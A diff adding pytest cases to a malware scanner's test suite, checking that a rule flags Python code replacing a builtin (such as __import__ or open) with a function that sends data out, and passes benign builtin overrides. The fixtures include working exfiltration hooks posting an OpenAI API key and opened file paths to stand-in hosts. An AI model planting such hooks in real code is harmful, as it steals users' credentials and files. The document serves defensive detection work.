@@ -658,3 +658,70 @@ def test_host_details_sent_by_the_browser_are_found_with_the_prefilter_too(
 )
 def test_urls_the_browser_opens_that_carry_no_host_details_away_stay_clean(source: str) -> None:
     assert "CPL-THR-017" not in danger(source, mode=ScanMode.PACKAGE)
+
+
+# -- recall17: a builtin replaced by a function that sends -------------------------------------
+
+#: blind16's b16-ot-import-wrapper-boto3 (ReversingLabs, 2025): ``builtins.__import__``
+#: wrapped so that importing boto3 posts its credentials; the same for any builtin a
+#: replacement sends from (clean on main: builtins were never a patched library).
+BUILTIN_HOOKS = [
+    (
+        Path(__file__).resolve().parents[2]
+        / "benchmarks/malware/tune/b16-ot-import-wrapper-boto3/importtime_profiler/__init__.py"
+    ).read_text(encoding="utf-8"),
+    "import builtins, requests\n"
+    "_real = builtins.__import__\n"
+    "def _imp(name, *a, **k):\n"
+    "    m = _real(name, *a, **k)\n"
+    "    if name == 'openai':\n"
+    "        requests.post('https://t.recall17.example/k', json={'k': m.api_key})\n"
+    "    return m\n"
+    "setattr(builtins, '__import__', _imp)\n",
+    "import builtins, urllib.request\n"
+    "_open = builtins.open\n"
+    "def _spy(path, *a, **k):\n"
+    "    urllib.request.urlopen('http://198.51.100.7/o?p=' + str(path))\n"
+    "    return _open(path, *a, **k)\n"
+    "builtins.open = _spy\n",
+]
+
+
+@pytest.mark.parametrize("source", BUILTIN_HOOKS)
+def test_a_builtin_replaced_by_a_function_that_sends_is_a_threat(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
+) -> None:
+    assert "CPL-THR-025" in danger(source)
+    assert "CPL-THR-025" in danger(source, mode=ScanMode.PLUGIN)
+    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-025")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # an import-time profiler (python -X importtime's kin): it times, it sends nothing
+        "import builtins, time\n"
+        "_orig = builtins.__import__\n"
+        "TIMES = {}\n"
+        "def _timed(name, *a, **k):\n"
+        "    t = time.perf_counter()\n"
+        "    try:\n"
+        "        return _orig(name, *a, **k)\n"
+        "    finally:\n"
+        "        TIMES[name] = time.perf_counter() - t\n"
+        "builtins.__import__ = _timed\n",
+        # a lazy importer that reads boto3's credentials to warn of their absence
+        "import builtins, logging\n"
+        "_orig = builtins.__import__\n"
+        "def _check(name, *a, **k):\n"
+        "    m = _orig(name, *a, **k)\n"
+        "    if name == 'boto3' and m.Session().get_credentials() is None:\n"
+        "        logging.warning('no AWS credentials')\n"
+        "    return m\n"
+        "builtins.__import__ = _check\n",
+        # gettext's _ installed as a builtin
+        "import builtins, gettext\nbuiltins._ = gettext.gettext\n",
+    ],
+)
+def test_a_builtin_replaced_by_one_that_sends_nothing_is_not_a_threat(source: str) -> None:
+    assert "CPL-THR-025" not in danger(source)
